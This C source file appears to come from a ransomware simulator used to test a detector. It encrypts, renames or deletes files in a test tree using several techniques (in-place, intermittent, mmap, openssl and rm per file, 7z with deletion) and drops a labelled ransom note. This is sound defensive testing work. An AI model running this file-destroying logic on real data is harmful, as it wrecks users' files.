/* sim-modes — what each --mode does to one file. Every file is opened relative to its parent
 * directory fd (re-opened without following symlinks) with O_NOFOLLOW and must still be a regular
 * file on the target's filesystem. The log line is written right after the first syscall that
 * damaged the file: the first pwrite/msync into it, the unlink of the original, or (exec_per_file)
 * the exit of the openssl child. */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <openssl/evp.h>

#include "sim.h"

#define COARSE_ON     ((uint64_t) 64 * 1024)
#define COARSE_PERIOD ((uint64_t) 1024 * 1024)
#define FINE_ON       ((uint64_t) 64)
#define FINE_PERIOD   ((uint64_t) 192)


static const char ransom_note[] =
        "Your files in this directory were encrypted by ransomguard-sim.\n"
        "\n"
        "This is a SIMULATION run by the ransomguard test suite in a disposable test directory.\n"
        "Nothing left this machine. The key and IVs derive from the --seed of the run.\n"
        "To restore: recreate the test tree; there is nothing to pay.\n";

int sim_ctx_init(struct sim_ctx *c, const struct sim_opts *o, const struct sim_target *t,
                 const struct sim_tree *tree, int log_fd) {
        unsigned char k[32];

        *c = (struct sim_ctx) { .o = o, .t = t, .tree = tree, .log_fd = log_fd, .dir_fd = -1,
                                .side_fd = -1 };
        c->buf = malloc(SIM_CHUNK);
        c->buf2_len = (SIM_CHUNK / 48 + 4) * 66;
        c->buf2 = malloc(c->buf2_len);
        c->noted = calloc(tree->n_dirs ? tree->n_dirs : 1, sizeof *c->noted);
        if (!c->buf || !c->buf2 || !c->noted) {
                sim_ctx_done(c);
                return -ENOMEM;
        }
        sim_password(o->seed, c->password);
        sim_derive("xor", o->seed, 0, k);
        memcpy(c->xor_key, k, sizeof c->xor_key);
        return 0;
}

void sim_ctx_done(struct sim_ctx *c) {
        if (c->dir_fd >= 0)
                close(c->dir_fd);
        c->dir_fd = -1;
        free(c->buf);
        free(c->buf2);
        free(c->noted);
        c->buf = c->buf2 = NULL;
        c->noted = NULL;
}

/* Log the damage once, right after the first damaging syscall. A log that cannot be written
 * stops the run: the measurements depend on it. */
int sim_job_damaged(struct sim_job *j) {
        int r;

        if (j->logged)
                return 0;
        j->logged = true;
        r = sim_log_damage(j->c->log_fd, j->path, j->planned);
        if (r < 0) {
                errno = -r;
                sim_warn("Failed to write the progress log: %m");
                j->c->fatal = true;
        }
        return r;
}

static int transform(struct sim_job *j, unsigned char *buf, size_t len, uint64_t off) {
        if (!j->cipher) {
                sim_xor_apply(j->c->xor_key, off, buf, len);
                return 0;
        }
        return sim_cipher_apply(j->cipher, buf, len);
}

int sim_job_skip(struct sim_job *j, int r, const char *what) {
        errno = -r;
        if (r == -ENOENT)
                sim_warn("Skipping %s: vanished", j->path);
        else
                sim_warn("Failed to %s %s: %m, skipping", what, j->path);
        return r;
}

/* Open the file of the job: regular, same filesystem, no symlink. */
int sim_job_open(struct sim_job *j, int flags, struct stat *ret_st) {
        int fd = openat(j->dfd, j->name, flags | O_NOFOLLOW | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);

        if (fd < 0)
                return -errno;
        if (fstat(fd, ret_st) < 0) {
                int r = -errno;
                close(fd);
                return r;
        }
        if (!S_ISREG(ret_st->st_mode) || ret_st->st_dev != j->c->t->dev) {
                close(fd);
                return -EINVAL;
        }
        return fd;
}

static uint64_t pattern_bytes(uint64_t size, uint64_t on, uint64_t period) {
        uint64_t full = size / period, rest = size % period;

        return full * on + (rest < on ? rest : on);
}

/* Read, transform and write back [off, off + len) in chunks; stops early at EOF. */
int sim_crypt_range(struct sim_job *j, int fd, uint64_t off, uint64_t len) {
        unsigned char *buf = j->c->buf;

        while (len > 0) {
                size_t want = len < SIM_CHUNK ? (size_t) len : SIM_CHUNK;
                ssize_t n = sim_pread_full(fd, buf, want, (off_t) off);
                int r;

                if (n < 0)
                        return (int) n;
                if (n == 0)
                        break;
                r = transform(j, buf, (size_t) n, off);
                if (r < 0)
                        return r;
                r = sim_pwrite_full(fd, buf, (size_t) n, (off_t) off);
                if (r < 0)
                        return r;
                r = sim_job_damaged(j);
                if (r < 0)
                        return r;
                off += (uint64_t) n;
                len -= (uint64_t) n;
        }
        return 0;
}

/* 64 B of every 192 B: read a block of whole periods, transform the "on" parts, write it back. */
static int crypt_fine(struct sim_job *j, int fd) {
        const size_t block = (SIM_CHUNK / FINE_PERIOD) * FINE_PERIOD;
        unsigned char *buf = j->c->buf;

        for (uint64_t off = 0;; off += block) {
                ssize_t n = sim_pread_full(fd, buf, block, (off_t) off);
                int r;

                if (n <= 0)
                        return (int) n;
                for (size_t p = 0; p < (size_t) n; p += FINE_PERIOD) {
                        size_t l = (size_t) n - p < FINE_ON ? (size_t) n - p : FINE_ON;
                        r = transform(j, buf + p, l, off + p);
                        if (r < 0)
                                return r;
                }
                r = sim_pwrite_full(fd, buf, (size_t) n, (off_t) off);
                if (r < 0)
                        return r;
                r = sim_job_damaged(j);
                if (r < 0)
                        return r;
                if ((size_t) n < block)
                        return 0;
        }
}

static int crypt_mmap(struct sim_job *j, int fd, uint64_t size) {
        unsigned char *map;
        int r = 0;

        if (size == 0)
                return 0; /* nothing to map */
        map = mmap(NULL, (size_t) size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (map == MAP_FAILED)
                return -errno;
        for (uint64_t off = 0; off < size && r >= 0; off += SIM_CHUNK) {
                size_t l = size - off < SIM_CHUNK ? (size_t) (size - off) : SIM_CHUNK;
                r = transform(j, map + off, l, off);
        }
        if (r >= 0 && msync(map, (size_t) size, MS_SYNC) < 0)
                r = -errno;
        if (r >= 0)
                r = sim_job_damaged(j);
        if (munmap(map, (size_t) size) < 0 && r >= 0)
                r = -errno;
        return r;
}

static int rename_with_ext(struct sim_job *j) {
        char newname[NAME_MAX + 1];
        int n = snprintf(newname, sizeof newname, "%s.%s", j->name, j->c->o->ext);

        if (n < 0 || (size_t) n >= sizeof newname)
                return -ENAMETOOLONG;
        if (renameat2(j->dfd, j->name, j->dfd, newname, RENAME_NOREPLACE) == 0)
                return 0;
        if (errno != EINVAL)
                return -errno;
        /* Filesystem without RENAME_NOREPLACE: check, then plain rename. */
        if (faccessat(j->dfd, newname, F_OK, AT_SYMLINK_NOFOLLOW) == 0)
                return -EEXIST;
        if (renameat(j->dfd, j->name, j->dfd, newname) < 0)
                return -errno;
        return 0;
}

/* inplace, slow, multiproc, intermittent, header_only, xor, mmap. */
static int attack_inplace(struct sim_job *j) {
        const struct sim_opts *o = j->c->o;
        struct stat st;
        uint64_t size;
        int fd, r;

        fd = sim_job_open(j, O_RDWR, &st);
        if (fd < 0)
                return sim_job_skip(j, fd, "open");
        size = (uint64_t) st.st_size;

        switch (o->mode) {
        case SIM_MODE_HEADER_ONLY:
                j->planned = size < SIM_HEADER_BYTES ? size : SIM_HEADER_BYTES;
                break;
        case SIM_MODE_INTERMITTENT:
                j->planned = o->pattern == SIM_PATTERN_FINE ? pattern_bytes(size, FINE_ON, FINE_PERIOD)
                                                             : pattern_bytes(size, COARSE_ON, COARSE_PERIOD);
                break;
        default:
                j->planned = size;
        }
        if (o->mode != SIM_MODE_XOR) {
                r = sim_cipher_new(o->cipher, o->seed, j->idx, &j->cipher);
                if (r < 0) {
                        close(fd);
                        errno = -r;
                        sim_warn("Failed to set up the cipher: %m");
                        j->c->fatal = true;
                        return r;
                }
        }

        if (o->mode == SIM_MODE_MMAP)
                r = crypt_mmap(j, fd, size);
        else if (o->mode == SIM_MODE_HEADER_ONLY)
                r = sim_crypt_range(j, fd, 0, SIM_HEADER_BYTES);
        else if (o->mode == SIM_MODE_INTERMITTENT && o->pattern == SIM_PATTERN_FINE)
                r = crypt_fine(j, fd);
        else if (o->mode == SIM_MODE_INTERMITTENT) {
                r = 0;
                for (uint64_t off = 0; off < size && r >= 0; off += COARSE_PERIOD)
                        r = sim_crypt_range(j, fd, off, COARSE_ON);
        } else
                r = sim_crypt_range(j, fd, 0, UINT64_MAX);

        if (r >= 0 && o->fsync && fsync(fd) < 0)
                r = -errno;
        if (close(fd) < 0 && r >= 0)
                r = -errno;
        if (r < 0)
                return j->c->fatal ? r : sim_job_skip(j, r, "encrypt");

        if (!o->no_rename) {
                r = rename_with_ext(j);
                if (r < 0)
                        return sim_job_skip(j, r, "rename");
        }
        /* An empty file: the rename was the only damage. */
        return sim_job_damaged(j);
}

static int drop_note(struct sim_job *j) {
        struct sim_ctx *c = j->c;
        size_t dir = c->tree->files[j->idx].dir;
        int fd, r;

        if (c->noted[dir])
                return 0;
        c->noted[dir] = true;
        fd = openat(j->dfd, SIM_NOTE_NAME, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW | O_CLOEXEC | O_NOCTTY, 0644);
        if (fd < 0)
                return errno == EEXIST ? 0 : -errno;
        r = sim_write_full(fd, ransom_note, sizeof ransom_note - 1);
        if (close(fd) < 0 && r >= 0)
                r = -errno;
        return r;
}

/* newfile_unlink, lowentropy: ciphertext (base64 for lowentropy) into name.<ext>, then unlink. */
static int attack_newfile(struct sim_job *j) {
        struct sim_ctx *c = j->c;
        bool b64 = c->o->mode == SIM_MODE_LOWENTROPY;
        EVP_ENCODE_CTX *enc = NULL;
        char newname[NAME_MAX + 1];
        struct stat st, now;
        bool created = false;
        int in, out = -1, r, n;

        n = snprintf(newname, sizeof newname, "%s.%s", j->name, c->o->ext);
        if (n < 0 || (size_t) n >= sizeof newname)
                return sim_job_skip(j, -ENAMETOOLONG, "name the copy of");
        in = sim_job_open(j, O_RDONLY, &st);
        if (in < 0)
                return sim_job_skip(j, in, "open");
        j->planned = (uint64_t) st.st_size;

        r = sim_cipher_new(c->o->cipher, c->o->seed, j->idx, &j->cipher);
        if (r >= 0 && b64) {
                enc = EVP_ENCODE_CTX_new();
                if (enc)
                        EVP_EncodeInit(enc);
                else
                        r = -ENOMEM;
        }
        if (r < 0) {
                errno = -r;
                sim_warn("Failed to set up the cipher: %m");
                c->fatal = true;
                goto out;
        }
        out = openat(j->dfd, newname, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW | O_CLOEXEC | O_NOCTTY,
                     (st.st_mode & 0777) | 0600);
        if (out < 0) {
                r = -errno;
                goto out;
        }
        for (;;) {
                ssize_t got = sim_read_full(in, c->buf, SIM_CHUNK);
                int outl = 0;

                if (got < 0) {
                        r = (int) got;
                        goto out;
                }
                if (got == 0)
                        break;
                r = sim_cipher_apply(j->cipher, c->buf, (size_t) got);
                if (r < 0)
                        goto out;
                if (b64) {
                        if (EVP_EncodeUpdate(enc, c->buf2, &outl, c->buf, (int) got) != 1) {
                                r = -EIO;
                                goto out;
                        }
                        r = sim_write_full(out, c->buf2, (size_t) outl);
                } else
                        r = sim_write_full(out, c->buf, (size_t) got);
                if (r < 0)
                        goto out;
        }
        if (b64) {
                int outl = 0;
                EVP_EncodeFinal(enc, c->buf2, &outl);
                r = sim_write_full(out, c->buf2, (size_t) outl);
                if (r < 0)
                        goto out;
        }
        r = close(out) < 0 ? -errno : 0;
        out = -1;
        if (r < 0)
                goto out;
        created = true;

        /* Unlink only the file that was read, not something put in its place meanwhile. */
        if (fstatat(j->dfd, j->name, &now, AT_SYMLINK_NOFOLLOW) < 0) {
                r = -errno;
                goto out;
        }
        if (now.st_dev != st.st_dev || now.st_ino != st.st_ino) {
                r = -ESTALE;
                goto out;
        }
        if (unlinkat(j->dfd, j->name, 0) < 0) {
                r = -errno;
                goto out;
        }
        created = false; /* the copy is the file now */
        r = sim_job_damaged(j);
        if (r >= 0 && c->o->mode == SIM_MODE_NEWFILE_UNLINK) {
                int nr = drop_note(j);
                if (nr < 0) {
                        errno = -nr;
                        sim_warn("Failed to drop the ransom note next to %s: %m, ignoring", j->path);
                }
        }
out:
        if (out >= 0) {
                close(out);
                created = true;
        }
        if (created)
                (void) unlinkat(j->dfd, newname, 0); /* original kept: no stray copy beside it */
        close(in);
        EVP_ENCODE_CTX_free(enc);
        if (r < 0 && !c->fatal)
                return sim_job_skip(j, r, r == -ESTALE ? "unlink (replaced meanwhile)" : "encrypt");
        return r;
}

/* fork + fchdir + exec, wait; returns the wait status or a negative errno. */
static int spawn_wait(const char *path, char *const argv[], int dfd, int *ret_status) {
        pid_t pid = fork();

        if (pid < 0)
                return -errno;
        if (pid == 0) {
                if (fchdir(dfd) < 0)
                        _exit(126);
                execv(path, argv);
                _exit(127);
        }
        while (waitpid(pid, ret_status, 0) < 0)
                if (errno != EINTR)
                        return -errno;
        return 0;
}

static void describe_status(int status, char *buf, size_t len) {
        if (WIFEXITED(status))
                snprintf(buf, len, "exited with status %d", WEXITSTATUS(status));
        else if (WIFSIGNALED(status))
                snprintf(buf, len, "killed by signal %d", WTERMSIG(status));
        else
                snprintf(buf, len, "ended with wait status %#x", (unsigned) status);
}

/* For the modes that run a tool on a file: the file is still a regular file of the target's
 * filesystem, and "./NAME.ext" (into out) does not exist yet; "./NAME" into in. */
static int child_names(struct sim_job *j, const char *ext, char *in, size_t in_len, char *out, size_t out_len,
                       const char *what) {
        struct stat st;
        char why[64];
        int n;

        if (fstatat(j->dfd, j->name, &st, AT_SYMLINK_NOFOLLOW) < 0)
                return sim_job_skip(j, -errno, "stat");
        if (!S_ISREG(st.st_mode) || st.st_dev != j->c->t->dev)
                return sim_job_skip(j, -EINVAL, "check");
        n = snprintf(out, out_len, "./%s.%s", j->name, ext);
        if (n < 0 || (size_t) n >= out_len || (size_t) n - 2 > NAME_MAX) {
                snprintf(why, sizeof why, "name the %s of", what);
                return sim_job_skip(j, -ENAMETOOLONG, why);
        }
        if (faccessat(j->dfd, out, F_OK, AT_SYMLINK_NOFOLLOW) == 0) {
                snprintf(why, sizeof why, "create the %s of", what);
                return sim_job_skip(j, -EEXIST, why);
        }
        snprintf(in, in_len, "./%s", j->name);
        j->planned = (uint64_t) st.st_size;
        return 0;
}

/* exec_per_file: one openssl process and one rm process per file, as real children. */
static int attack_exec(struct sim_job *j) {
        struct sim_ctx *c = j->c;
        char in[NAME_MAX + 3], out[NAME_MAX + 3], pass[80], why[64];
        const char *cipher = c->o->cipher == SIM_CIPHER_CHACHA20 ? "-chacha20" : "-aes-256-ctr";
        int status, r;

        r = child_names(j, c->o->ext, in, sizeof in, out, sizeof out, "copy");
        if (r < 0)
                return r;
        snprintf(pass, sizeof pass, "pass:%s", c->password);

        {
                char *const argv[] = { "openssl", "enc", (char *) cipher, "-pbkdf2", "-pass", pass,
                                       "-in", in, "-out", out, NULL };
                r = spawn_wait(c->openssl_path, argv, j->dfd, &status);
        }
        if (r < 0)
                return sim_job_skip(j, r, "run openssl for");
        if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) {
                describe_status(status, why, sizeof why);
                sim_warn("Skipping %s: openssl %s", j->path, why);
                (void) unlinkat(j->dfd, out + 2, 0);
                return -ECHILD;
        }
        r = sim_job_damaged(j);
        if (r < 0)
                return r;
        {
                char *const argv[] = { "rm", "-f", "--", in, NULL };
                r = spawn_wait(c->rm_path, argv, j->dfd, &status);
        }
        if (r < 0)
                return sim_job_skip(j, r, "run rm for");
        if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) {
                describe_status(status, why, sizeof why);
                sim_warn("Failed to remove %s: rm %s", j->path, why);
                return -ECHILD;
        }
        return 0;
}

/* archive: one 7z process per file, encrypting it into NAME.7z and deleting it (-sdel). */
static int attack_archive(struct sim_job *j) {
        struct sim_ctx *c = j->c;
        char in[NAME_MAX + 3], out[NAME_MAX + 6], pass[80], why[64];
        int status, r;

        r = child_names(j, "7z", in, sizeof in, out, sizeof out, "archive");
        if (r < 0)
                return r;
        snprintf(pass, sizeof pass, "-p%s", c->password);
        {
                char *const argv[] = { "7z", "a", "-t7z", pass, "-sdel", "-y", "-bso0", "-bsp0", "-bse0",
                                       "--", out, in, NULL };
                r = spawn_wait(c->sevenz_path, argv, j->dfd, &status);
        }
        if (r < 0)
                return sim_job_skip(j, r, "run 7z for");
        if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) {
                describe_status(status, why, sizeof why);
                sim_warn("Skipping %s: 7z %s", j->path, why);
                if (faccessat(j->dfd, in, F_OK, AT_SYMLINK_NOFOLLOW) == 0)
                        (void) unlinkat(j->dfd, out + 2, 0); /* original kept: no stray archive */
                return -ECHILD;
        }
        return sim_job_damaged(j);
}

int sim_attack_file(struct sim_ctx *c, size_t idx) {
        size_t dir = c->tree->files[idx].dir;
        struct sim_job j = { .c = c, .idx = idx, .name = c->tree->files[idx].name };
        int r;

        r = sim_tree_path(c->tree, c->t->path, idx, &j.path);
        if (r < 0) {
                c->fatal = true;
                return r;
        }
        if (c->dir_fd < 0 || c->dir_id != dir) {
                if (c->dir_fd >= 0)
                        close(c->dir_fd);
                c->dir_fd = -1;
                r = sim_open_dir(c->t, c->tree->dirs[dir], &c->dir_fd);
                if (r < 0) {
                        if (r == -ENOMEM)
                                c->fatal = true;
                        r = sim_job_skip(&j, r, "open the directory of");
                        goto out;
                }
                c->dir_id = dir;
        }
        j.dfd = c->dir_fd;

        switch (c->o->mode) {
        case SIM_MODE_NEWFILE_UNLINK:
        case SIM_MODE_LOWENTROPY:
                r = attack_newfile(&j);
                break;
        case SIM_MODE_EXEC_PER_FILE:
                r = attack_exec(&j);
                break;
        case SIM_MODE_ARCHIVE:
                r = attack_archive(&j);
                break;
        case SIM_MODE_RENAME_OVER:
        case SIM_MODE_OUTSIDE_RENAME:
        case SIM_MODE_EXCHANGE:
        case SIM_MODE_TRUNCATE:
        case SIM_MODE_REWRITE:
        case SIM_MODE_FAKE_MAGIC:
        case SIM_MODE_KEEP_HEADER:
        case SIM_MODE_GAPS:
        case SIM_MODE_WORDS:
        case SIM_MODE_HOLD_OPEN:
        case SIM_MODE_HARDLINK:
        case SIM_MODE_BINDMOUNT:
        case SIM_MODE_SPREAD:
                r = sim_evade_file(&j);
                break;
        default:
                r = attack_inplace(&j);
        }
out:
        EVP_CIPHER_CTX_free(j.cipher);
        free(j.path);
        if (r < 0)
                c->skipped++;
        else
                c->damaged++;
        return r;
}

int sim_find_in_path(const char *name, char **ret) {
        const char *path = getenv("PATH");
        char *copy, *save = NULL;

        if (!path || !*path)
                path = "/usr/local/bin:/usr/bin:/bin";
        copy = strdup(path);
        if (!copy)
                return -ENOMEM;
        for (char *d = strtok_r(copy, ":", &save); d; d = strtok_r(NULL, ":", &save)) {
                struct stat st;
                char *full;

                if (*d != '/')
                        continue; /* relative PATH entries depend on the cwd: ignore */
                if (asprintf(&full, "%s/%s", d, name) < 0) {
                        free(copy);
                        return -ENOMEM;
                }
                if (stat(full, &st) == 0 && S_ISREG(st.st_mode) && access(full, X_OK) == 0) {
                        free(copy);
                        *ret = full;
                        return 0;
                }
                free(full);
        }
        free(copy);
        return -ENOENT;
}
